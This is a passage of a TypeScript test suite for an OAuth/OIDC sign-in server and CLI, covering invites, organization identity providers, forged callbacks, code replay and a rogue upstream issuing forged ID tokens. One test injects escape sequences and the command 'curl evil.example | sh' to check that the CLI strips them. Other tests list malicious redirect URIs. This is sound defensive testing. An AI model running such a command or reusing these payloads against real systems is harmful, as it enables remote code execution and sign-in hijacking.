        await browser.get(stopped(await browser.navigate(url.href, { until: atOrigin(redirectUri) })).href);
        const done = await run.exit;
        assert.notEqual(done.code, 0);
        assert.match(done.stderr, /unknown identity provider/);
      });

      it("an IdP deleted during the sign-in ends it (the session goes with it): no code, no binding", async () => {
        const orgC = await groupUid("", "org c");
        const idp = await createIdp(orgC, {
          issuer: upstream.issuer,
          clientId: upstream.confidentialClient.clientId,
          clientSecret: upstream.confidentialClient.clientSecret,
        });
        const verifier = randomBytes(32).toString("base64url");
        const browser = new Browser();
        const first = await browser.get(
          authorizeUrl({
            client_id: CLIENT_ID,
            response_type: "code",
            redirect_uri: NOWHERE,
            state: "s",
            code_challenge: s256(verifier),
            code_challenge_method: "S256",
            identity_provider: idp,
          }),
        );
        assert.equal(first.status, 302);
        assert.equal((await op.delete(`/iam/v2beta1/identityProviders/${idp}`)).status, 200);
        const outcome = await browser.navigate(first.location!, { login: "gus", until: atOrigin(NOWHERE) });
        assert.equal(outcome.kind, "page", "nothing goes back to the client");
        assert.equal(pageOf(outcome).status, 400);
        assert.match(pageOf(outcome).body, /unknown, expired or already finished/);
        assert.deepEqual(await bindingsOf(humanUid(upstream.issuer, "gus")), []);
      });

      it("reads email and profile at userinfo from a spec-conformant upstream that keeps them out of the ID token (OIDC Core §5.4)", async () => {
        const conformant = await UpstreamProvider.listen({ conformIdTokenClaims: true });
        try {
          await conformant.start([callbackUrl]);
          const org = await groupUid("", "conformant org");
          const idp = await createIdp(org, {
            issuer: conformant.issuer,
            clientId: conformant.confidentialClient.clientId,
            clientSecret: conformant.confidentialClient.clientSecret,
          });
          // email-restricted: passes only if email and email_verified came from userinfo
          const invite = await createInvite(org, { email: "gina@example.test" });
          const { returned } = await signIn({
            login: "gina",
            params: { identity_provider: idp, invite_code: invite.code },
          });
          assert.ok(returned.searchParams.get("code"), returned.href);
          const id = (await identity(humanUid(conformant.issuer, "gina"))).body;
          assert.equal(id.name, "gina", "preferred_username from userinfo");
          assert.equal(
            id.emailUnverified,
            "gina@example.test",
            "the email from userinfo (an org IdP's: not the platform email)",
          );
          assert.equal((await bindingsOf(id.uid)).length, 1, "the IdP's role and the invite's are the same binding");
        } finally {
          await conformant.close();
        }
      });
    });

    // ---- 4. invites ------------------------------------------------------------------------

    describe("invites", () => {
      let org: string;
      let team: string;

      before(async () => {
        org = await groupUid("", "invite org");
        team = await groupUid(org, "team");
      });

      it("`auth login --invite-code` binds the invite's role at the invite's group and uses a single-use invite up", async () => {
        const invite = await createInvite(team, { singleUse: true });
        const done = await cliSignIn("henry", "--invite-code", invite.code);
        assert.equal(done.code, 0, done.stderr);
        assert.equal(done.url.searchParams.get("invite_code"), invite.code);
        const henry = humanUid(upstream.issuer, "henry");
        assert.deepEqual(
          (await bindingsOf(henry)).map((b) => [b.group.uid, b.roleUid]),
          [[team, VIEWER]],
        );
        const me = await whoami(storedToken(done.configDir));
        assert.deepEqual(
          me.capabilities.map((c: Json) => [c.group.id, c.role.name]),
          [[team, "viewer"]],
        );
        const row = await server.db
          .selectFrom("group_invites")
          .select("used_time")
          .where("uid", "=", invite.uid)
          .executeTakeFirstOrThrow();
        assert.ok(row.used_time, "the invite is marked used");

        // the same code again: refused before anyone signs in, and said so
        const reuse = await cliSignIn("ivan", "--invite-code", invite.code);
        assert.notEqual(reuse.code, 0);
        assert.match(reuse.stderr, /invite code is invalid, expired or already used/);
        assert.ok(
          !reuse.browser.urls.some((u) => u.startsWith(upstream.issuer)),
          "the browser never went to the upstream",
        );
        assert.equal((await identity(humanUid(upstream.issuer, "ivan"))).status, 404);
      });

      it("a reusable invite takes several people", async () => {
        const invite = await createInvite(org, { singleUse: false });
        for (const login of ["ina", "ida"]) {
          const { returned } = await signIn({ login, params: { invite_code: invite.code } });
          assert.ok(returned.searchParams.get("code"), returned.href);
          assert.deepEqual(
            (await bindingsOf(humanUid(upstream.issuer, login))).map((b) => b.group.uid),
            [org],
          );
        }
      });

      it("an expired invite is refused, before the sign-in and during it", async () => {
        const invite = await createInvite(team);
        await expireInvite(invite.uid);
        const done = await cliSignIn("jack", "--invite-code", invite.code);
        assert.notEqual(done.code, 0);
        assert.match(done.stderr, /invite/);

        // valid when the sign-in starts, expired when the person comes back from the upstream
        const later = await createInvite(team);
        const browser = new Browser();
        const verifier = randomBytes(32).toString("base64url");
        const first = await browser.get(
          authorizeUrl({
            client_id: CLIENT_ID,
            response_type: "code",
            redirect_uri: NOWHERE,
            state: "s",
            code_challenge: s256(verifier),
            code_challenge_method: "S256",
            invite_code: later.code,
          }),
        );
        assert.equal(first.status, 302);
        await expireInvite(later.uid);
        const returned = stopped(await browser.navigate(first.location!, { login: "jill", until: atOrigin(NOWHERE) }));
        assert.equal(returned.searchParams.get("error"), "access_denied");
        assert.match(returned.searchParams.get("error_description")!, /invite has expired/);
        assert.equal(returned.searchParams.get("code"), null);
        assert.deepEqual(await bindingsOf(humanUid(upstream.issuer, "jill")), []);
      });

      it("an email-restricted invite takes only that verified email (any case)", async () => {
        const other = await createInvite(team, { email: "somebody-else@example.test" });
        const denied = await cliSignIn("judy", "--invite-code", other.code);
        assert.notEqual(denied.code, 0);
        assert.match(denied.stderr, /invite is for another email address/);
        assert.deepEqual(await bindingsOf(humanUid(upstream.issuer, "judy")), []);
        const row = await server.db
          .selectFrom("group_invites")
          .select("used_time")
          .where("uid", "=", other.uid)
          .executeTakeFirstOrThrow();
        assert.equal(row.used_time, null, "a refused invite stays unused");

        const mine = await createInvite(team, { email: "Kate@Example.TEST", singleUse: true });
        const ok = await signIn({ login: "kate", params: { invite_code: mine.code } });
        assert.ok(ok.returned.searchParams.get("code"), ok.returned.href);
        assert.deepEqual(
          (await bindingsOf(humanUid(upstream.issuer, "kate"))).map((b) => b.group.uid),
          [team],
        );

        // leo's upstream says leo@example.test but not that it is verified
        const unverified = await createInvite(team, { email: "leo@example.test" });
        const { returned } = await signIn({ login: "leo", params: { invite_code: unverified.code } });
        assert.equal(returned.searchParams.get("error"), "access_denied");
        assert.match(returned.searchParams.get("error_description")!, /verified email is required/);
        assert.deepEqual(await bindingsOf(humanUid(upstream.issuer, "leo")), []);
      });

      it("two sign-ins racing for one single-use invite: exactly one joins", async () => {
        const invite = await createInvite(team, { singleUse: true });
        const starts = await Promise.all(
          ["mia", "max"].map(async (login) => {
            const browser = new Browser();
            const verifier = randomBytes(32).toString("base64url");
            const first = await browser.get(
              authorizeUrl({
                client_id: CLIENT_ID,
                response_type: "code",
                redirect_uri: NOWHERE,
                state: login,
                code_challenge: s256(verifier),
                code_challenge_method: "S256",
                invite_code: invite.code,
              }),
            );
            assert.equal(first.status, 302, "both start: the code is still unused");
            return { login, browser, next: first.location! };
          }),
        );
        const results = await Promise.all(
          starts.map(async (s) =>
            stopped(await s.browser.navigate(s.next, { login: s.login, until: atOrigin(NOWHERE) })),
          ),
        );
        const codes = results.filter((r) => r.searchParams.get("code"));
        const errors = results.filter((r) => r.searchParams.get("error"));
        assert.equal(codes.length, 1, results.map((r) => r.search).join(" | "));
        assert.equal(errors.length, 1);
        assert.match(errors[0]!.searchParams.get("error_description")!, /already been used/);
        const bound = await Promise.all(
          ["mia", "max"].map(async (l) => (await bindingsOf(humanUid(upstream.issuer, l))).length),
        );
        assert.deepEqual(bound.sort(), [0, 1]);
      });

      it("a malformed invite code is refused with an error redirect", async () => {
        for (const code of ["nope", "0123456789abcdef", "0123456789abcdef.", "0123456789ABCDEF.secret"]) {
          const res = await new Browser().get(
            authorizeUrl({
              client_id: CLIENT_ID,
              response_type: "code",
              redirect_uri: NOWHERE,
              state: "s",
              code_challenge: s256(random() + random()),
              code_challenge_method: "S256",
              invite_code: code,
            }),
          );
          assert.equal(res.status, 302, code);
          assert.equal(new URL(res.location!).searchParams.get("error"), "access_denied", code);
        }
      });
    });

    // ---- 5. protocol attacks ---------------------------------------------------------------

    describe("protocol attacks", () => {
      it("the CLI ignores callbacks of another state (forged, a real code under another state, an error) and finishes with its own", async () => {
        const { run, url, redirectUri } = await cliLogin();
        // as any local process or web page could send them
        const forged = await fetch(`${redirectUri}?code=forged&state=${random()}`);
        assert.equal(forged.status, 400);
        await forged.text();
        const injected = await fetch(
          `${redirectUri}?error=access_denied&error_description=${encodeURIComponent("\x1b[2J\x1b[31mrun curl evil.example | sh")}&state=${random()}`,
        );
        assert.equal(injected.status, 400);
        await injected.text();
        // a real sign-in's code under another state
        const browser = new Browser();
        const returned = stopped(await browser.navigate(url.href, { login: "alice", until: atOrigin(redirectUri) }));
        const code = returned.searchParams.get("code")!;
        const tampered = new URL(returned.href);
        tampered.searchParams.set("state", random());
        assert.equal((await browser.get(tampered.href)).status, 400);
        // answered, and still waiting: its own callback below is still taken (and signs it in)
        assert.equal(run.exited(), false, "still waiting for its own callback");
        const row = await server.db
          .selectFrom("login_sessions")
          .select("status")
          .where("code_hash", "=", codeHash(code))
          .executeTakeFirstOrThrow();
        assert.equal(row.status, "signed_in", "the CLI did not spend the code on a callback of another state");
        // its own callback
        assert.equal((await browser.get(returned.href)).status, 200);
        const done = await run.exit;
        assert.equal(done.code, 0, done.stderr);
        assert.equal(decodeJwt(storedToken(run.configDir)).sub, humanUid(upstream.issuer, "alice"));
        assert.ok(!done.stderr.includes("evil.example"), done.stderr);
      });

      it("an error callback of the CLI's own state ends the sign-in; its text reaches the terminal without control characters", async () => {
        const { run, redirectUri, state } = await cliLogin();
        const res = await fetch(
          `${redirectUri}?error=access_denied&error_description=${encodeURIComponent("\x1b[2J\x1b[31mno\r\nway")}&state=${encodeURIComponent(state)}`,
        );
        assert.equal(res.status, 400);
        await res.text();
        const done = await run.exit;
        assert.notEqual(done.code, 0);
        assert.match(done.stderr, /sign-in failed: .*no {2}way/);
        assert.ok(!done.stderr.includes("\x1b"), "an escape sequence reached the terminal");
      });

      it("an upstream callback with an unknown, missing or spent state answers 400 and issues nothing", async () => {
        for (const query of [`?state=${random()}&code=abc`, "?code=abc", `?state=&code=abc`]) {
          const res = await new Browser().get(`${callbackUrl}${query}`);
          assert.equal(res.status, 400, query);
          assert.equal(res.location, undefined, query);
          assert.match(res.body, /unknown, expired or already finished/);
        }
        // a replayed upstream callback (the same state and upstream code twice)
        const browser = new Browser();
        const verifier = randomBytes(32).toString("base64url");
        const outcome = await browser.navigate(
          authorizeUrl({
            client_id: CLIENT_ID,
            response_type: "code",
            redirect_uri: NOWHERE,
            state: "s",
            code_challenge: s256(verifier),
            code_challenge_method: "S256",
          }),
          { login: "alice", until: (u) => u.href.startsWith(callbackUrl) },
        );
        const upstreamCallback = stopped(outcome);
        assert.ok(upstreamCallback.href.startsWith(callbackUrl));
        const first = await browser.get(upstreamCallback.href);
        assert.equal(first.status, 302);
        assert.ok(new URL(first.location!).searchParams.get("code"));
        const replay = await browser.get(upstreamCallback.href);
        assert.equal(replay.status, 400);
        assert.equal(replay.location, undefined);
      });

      it("an upstream code injected into another sign-in (state of A, code of B) fails; B, its owner, still signs in", async () => {
        const toCallback = (u: URL) => u.href.startsWith(callbackUrl);
        const start = async (browser: Browser) => {
          const verifier = randomBytes(32).toString("base64url");
          return stopped(
            await browser.navigate(
              authorizeUrl({
                client_id: CLIENT_ID,
                response_type: "code",
                redirect_uri: NOWHERE,
                state: random(),
                code_challenge: s256(verifier),
                code_challenge_method: "S256",
              }),
              {
                login: "alice",
                until: toCallback,
              },
            ),
          );
        };
        const a = await start(new Browser());
        const b = await start(new Browser());
        const injected = new URL(a.href);
        injected.searchParams.set("code", b.searchParams.get("code")!);
        const res = await new Browser().get(injected.href);
        assert.equal(res.status, 302);
        const back = new URL(res.location!);
        assert.equal(back.searchParams.get("error"), "access_denied");
        assert.equal(back.searchParams.get("code"), null);
        // session A is finished; B's code was useless to A (PKCE and nonce bind it to B) and still works for B
        assert.equal((await new Browser().get(a.href)).status, 400);
        const bRes = await new Browser().get(b.href);
        assert.equal(bRes.status, 302);
        assert.ok(new URL(bRes.location!).searchParams.get("code"), bRes.location);
      });

      it("an authorization code is good once: a replay is invalid_grant", async () => {
        const { verifier, returned } = await signIn();
        const code = returned.searchParams.get("code")!;
        const first = await redeem(code, verifier);
        assert.equal(first.status, 200, JSON.stringify(first.body));
        assert.equal(first.headers.get("cache-control"), "no-store");
        assert.equal(first.body.token_type, "Bearer");
        assert.equal((await whoami(first.body.access_token)).subject, humanUid(upstream.issuer, "alice"));
        const replay = await redeem(code, verifier);
        assert.equal(replay.status, 400);
        assert.equal(replay.body.error, "invalid_grant");
      });

      it("a wrong code_verifier is invalid_grant and burns the code", async () => {
        const { verifier, returned } = await signIn();
        const code = returned.searchParams.get("code")!;
        const wrong = await redeem(code, randomBytes(32).toString("base64url"));
        assert.equal(wrong.status, 400);
        assert.equal(wrong.body.error, "invalid_grant");
        const right = await redeem(code, verifier);
        assert.equal(right.body.error, "invalid_grant", "the code was spent by the failed attempt");
      });

      it("another redirect_uri at the token endpoint is invalid_grant", async () => {
        const { verifier, returned } = await signIn();
        const res = await redeem(returned.searchParams.get("code")!, verifier, "http://127.0.0.1:10/callback");
        assert.equal(res.status, 400);
        assert.equal(res.body.error, "invalid_grant");
      });

      it("redeems a code with the redirect_uri exactly as the client sent it (RFC 6749 §4.1.3), also without a path", async () => {
        const redirect = "http://127.0.0.1:9";
        const { verifier, returned } = await signIn({ params: { redirect_uri: redirect } });
        assert.equal(returned.origin, redirect);
        assert.equal(
          (await redeem(returned.searchParams.get("code")!, verifier, `${redirect}/`)).body.error,
          "invalid_grant",
          "not even a normalized spelling",
        );
        const { verifier: v2, returned: r2 } = await signIn({ params: { redirect_uri: redirect } });
        const res = await redeem(r2.searchParams.get("code")!, v2, redirect);
        assert.equal(res.status, 200, JSON.stringify(res.body));
      });

      it("an expired code is invalid_grant", async () => {
        const { verifier, returned } = await signIn();
        const code = returned.searchParams.get("code")!;
        await expireCode(code);
        const res = await redeem(code, verifier);
        assert.equal(res.status, 400);
        assert.equal(res.body.error, "invalid_grant");
      });

      it("the token endpoint refuses other clients, grants and incomplete requests", async () => {
        const { verifier, returned } = await signIn();
        const code = returned.searchParams.get("code")!;
        const other = await form("/oauth/token", {
          client_id: "other",
          grant_type: "authorization_code",
          code,
          code_verifier: verifier,
          redirect_uri: NOWHERE,
        });
        assert.equal(other.status, 401);
        assert.equal(other.body.error, "invalid_client");
        assert.equal(
          (await form("/oauth/token", { client_id: CLIENT_ID, grant_type: "password", username: "a", password: "b" }))
            .body.error,
          "unsupported_grant_type",
        );
        assert.equal(
          (
            await form("/oauth/token", {
              client_id: CLIENT_ID,
              grant_type: "authorization_code",
              code,
              redirect_uri: NOWHERE,
            })
          ).body.error,
          "invalid_request",
          "no code_verifier",
        );
        assert.equal(
          (await redeem(code, verifier)).status,
          200,
          "refusals before the code is looked up leave it usable",
        );
      });

      it("a redirect that is not an http loopback IP with a port, or an unknown client: a 400 page, no redirect", async () => {
        const bad = [
          "https://evil.example/callback",
          "http://evil.example:8080/callback",
          "http://localhost:8080/callback",
          "http://127.0.0.1/callback",
          "https://127.0.0.1:8080/callback",
          "http://127.0.0.1:8080/callback#frag",
          "http://user:pw@127.0.0.1:8080/callback",
          "http://127.0.0.1.evil.example:8080/callback",
          "http://10.0.0.1:8080/callback",
          "/callback",
          "",
        ];
        for (const redirect of [...bad, undefined]) {
          const res = await new Browser().get(
            authorizeUrl({
              client_id: CLIENT_ID,
              response_type: "code",
              redirect_uri: redirect,
              state: "s",
              code_challenge: s256(random() + random()),
              code_challenge_method: "S256",
            }),
          );
          assert.equal(res.status, 400, String(redirect));
          assert.equal(res.location, undefined, String(redirect));
          assert.match(res.contentType, /text\/html/);
          assert.match(res.body, /loopback/);
        }
        for (const client of ["other", undefined]) {
          const res = await new Browser().get(
            authorizeUrl({
              client_id: client,
              response_type: "code",
              redirect_uri: NOWHERE,
              state: "s",
              code_challenge: s256(random() + random()),
              code_challenge_method: "S256",
            }),
          );
          assert.equal(res.status, 400);
          assert.equal(res.location, undefined);
          assert.match(res.body, /Unknown client/);
        }
        // the IPv6 loopback is a loopback too
        const v6 = await new Browser().get(
          authorizeUrl({
            client_id: CLIENT_ID,
            response_type: "code",
            redirect_uri: "http://[::1]:8080/callback",
            state: "s",
            code_challenge: s256(random() + random()),
            code_challenge_method: "S256",
          }),
        );
        assert.equal(v6.status, 302);
        assert.equal(new URL(v6.location!).origin, upstream.issuer);
      });

      it("no PKCE, plain PKCE, no state, another response_type: an error redirect to the client, nothing started", async () => {
        const base = {
          client_id: CLIENT_ID,
          response_type: "code",
          redirect_uri: NOWHERE,
          state: "st",
          code_challenge: s256(random() + random()),
          code_challenge_method: "S256",
        };
        const cases: Array<[Record<string, string | undefined>, string]> = [
          [{ code_challenge: undefined, code_challenge_method: undefined }, "invalid_request"],
          [{ code_challenge_method: undefined }, "invalid_request"],
          [{ code_challenge_method: "plain", code_challenge: "a".repeat(43) }, "invalid_request"],
          [{ code_challenge: "short" }, "invalid_request"],
          [{ state: undefined }, "invalid_request"],
          [{ state: "" }, "invalid_request"],
          [{ response_type: "token" }, "unsupported_response_type"],
        ];
        const sessions = async () =>
          Number(
            (
              await server.db
                .selectFrom("login_sessions")
                .select((eb) => eb.fn.countAll().as("n"))
                .executeTakeFirstOrThrow()
            ).n,
          );
        const before = await sessions();
        for (const [over, error] of cases) {
          const res = await new Browser().get(authorizeUrl({ ...base, ...over }));
          assert.equal(res.status, 302, JSON.stringify(over));
          const back = new URL(res.location!);
          assert.equal(back.origin + back.pathname, NOWHERE);
          assert.equal(back.searchParams.get("error"), error, JSON.stringify(over));
          if (over.state === undefined && "state" in over) assert.equal(back.searchParams.get("state"), null);
          else assert.equal(back.searchParams.get("state"), over.state ?? "st");
        }
        assert.equal(await sessions(), before, "no sign-in session was created");
      });

      describe("an upstream that forges its answers", () => {
        let rogue: RogueUpstream;
        let org: string;
        let idp: string;
        const rogueUid = (sub: string) => humanUid(rogue.url, sub);

        before(async () => {
          rogue = await RogueUpstream.start();
          org = await groupUid("", "rogue org");
          idp = await createIdp(org, { issuer: rogue.url, clientId: "rogue-client", clientSecret: "rogue-secret" });
        });
        after(() => rogue.close());

        const viaRogue = () => signIn({ params: { identity_provider: idp } });

        it("an honest answer signs in, and the request to the upstream carried state, nonce and PKCE S256", async () => {
          rogue.behaviour = { subject: "mallory" };
          const { returned } = await viaRogue();
          assert.ok(returned.searchParams.get("code"), returned.href);
          const authorize = rogue.authorizeRequests.at(-1)!;
          const token = rogue.tokenRequests.at(-1)!;
          assert.equal(authorize.get("response_type"), "code");
          assert.equal(authorize.get("client_id"), "rogue-client");
          assert.equal(authorize.get("redirect_uri"), callbackUrl);
          assert.deepEqual(authorize.get("scope")!.split(" ").sort(), ["email", "openid", "profile"]);
          assert.ok((authorize.get("state") ?? "").length >= 32, "state");
          assert.ok((authorize.get("nonce") ?? "").length >= 32, "nonce");
          assert.ok(RogueUpstream.pkceMatches(authorize, token), "PKCE S256 verifier sent with the code");
          assert.equal(token.get("client_secret"), "rogue-secret", "client_secret_post");
          assert.equal(token.get("redirect_uri"), callbackUrl);
          assert.equal((await identity(rogueUid("mallory"))).status, 200);
          assert.deepEqual(
            (await bindingsOf(rogueUid("mallory"))).map((b) => b.group.uid),
            [org],
          );
        });

        it("an ID token with another nonce: access_denied to the client, no identity", async () => {
          rogue.behaviour = { subject: "nonce-victim", idToken: { nonce: "evil" } };
          const { returned } = await viaRogue();
          assert.equal(returned.searchParams.get("error"), "access_denied");
          assert.match(returned.searchParams.get("error_description")!, /could not be verified/);
          assert.equal(returned.searchParams.get("code"), null);
          assert.equal((await identity(rogueUid("nonce-victim"))).status, 404);
        });

        it("other forged ID tokens (no nonce, another issuer's person, audience, expired, unsigned, another alg) are refused", async () => {
          const aliceBefore = (await identity(humanUid(upstream.issuer, "alice"))).body.lastSeenTime;
          // (A signature by an unpublished key is not among them: an ID token straight from the token
          // endpoint may be trusted on TLS alone, OIDC Core §3.1.3.7 (6), and openid-client does so.)
          const cases: Array<[string, RogueBehaviour]> = [
            ["no nonce", { subject: "f1", idToken: { nonce: undefined } }],
            ["the default upstream's alice", { subject: "alice", idToken: { iss: upstream.issuer } }],
            ["another audience", { subject: "f3", idToken: { aud: "someone-else" } }],
            [
              "expired",
              {
                subject: "f4",
                idToken: { iat: Math.floor(Date.now() / 1000) - 7200, exp: Math.floor(Date.now() / 1000) - 3600 },
              },
            ],
            ["unsigned (alg none)", { subject: "f5", unsigned: true }],
            ["ES256 where RS256 is expected", { subject: "f6", key: await makeKey("ES256") }],
          ];
          for (const [what, behaviour] of cases) {
            rogue.behaviour = behaviour;
            const { returned } = await viaRogue();
            assert.equal(returned.searchParams.get("error"), "access_denied", what);
            assert.equal(returned.searchParams.get("code"), null, what);
            assert.equal((await identity(rogueUid(behaviour.subject!))).status, 404, what);
          }
          const aliceAfter = (await identity(humanUid(upstream.issuer, "alice"))).body.lastSeenTime;
          assert.equal(aliceAfter, aliceBefore, "alice was not signed in by the rogue");
        });

        it("an organization's own IdP cannot vouch for an email elsewhere: not for another organization's invite, not as the identity's email", async () => {
          const victimOrg = await groupUid("", "victim org");
          const invite = await createInvite(victimOrg, { email: "ceo@victim.example" });
          rogue.behaviour = { subject: "mallory-2", idToken: { email: "ceo@victim.example", email_verified: true } };
          const { returned } = await signIn({ params: { identity_provider: idp, invite_code: invite.code } });
          assert.equal(returned.searchParams.get("error"), "access_denied");
          assert.deepEqual(
            (await bindingsOf(rogueUid("mallory-2"))).map((b) => b.group.uid).filter((g) => g === victimOrg),
            [],
            "mallory joined the victim's organization",
          );
          const id = (await identity(rogueUid("mallory-2"))).body;
          assert.equal(id.email, "", "the identity does not carry the rogue's 'verified' email");
          const me = await whoami(await server.tokenFor(id.uid));
          assert.equal(me.email, "");
        });
      });
    });

    // ---- a server without a default upstream -----------------------------------------------

    it("a server without a default upstream says so, and still takes organization IdPs", async () => {
      const bare = await startTestServer(backend);
      try {
        const url = new URL("/oauth/authorize", bare.url);
        for (const [k, v] of Object.entries({
          client_id: CLIENT_ID,
          response_type: "code",
          redirect_uri: NOWHERE,
          state: "s",
          code_challenge: s256(random() + random()),
          code_challenge_method: "S256",
        }))
          url.searchParams.set(k, v);
        const res = await new Browser().get(url.href);
        assert.equal(res.status, 302);
        const back = new URL(res.location!);
        assert.equal(back.searchParams.get("error"), "server_error");
        assert.match(back.searchParams.get("error_description")!, /no sign-in provider is configured/);
        const device = await fetch(new URL("/oauth/device_authorization", bare.url), {
          method: "POST",
          headers: { "content-type": "application/x-www-form-urlencoded" },
          body: `client_id=${CLIENT_ID}`,
        });
        assert.equal(device.status, 400);
        assert.equal(((await device.json()) as Json).error, "server_error");
        // an organization's IdP is accepted (the sign-in starts at its upstream)
        const bareOp = restClient(bare.url, bare.operatorToken);
        const org = (await bareOp.post("/iam/v2beta1/groups", { name: "bare org" })).body.uid;
        const idp = (
          await bareOp.post(`/iam/v2beta1/identityProviders/${org}`, {
            name: "sso",
            defaultRole: VIEWER,
            oidc: { issuer: upstream.issuer, clientId: upstream.confidentialClient.clientId },
          })
        ).body.uid;
        url.searchParams.set("identity_provider", idp);
        const viaIdp = await new Browser().get(url.href);
        assert.equal(viaIdp.status, 302);
        assert.equal(new URL(viaIdp.location!).origin, upstream.issuer);
      } finally {
        await bare.close();
      }
    });
  });
}
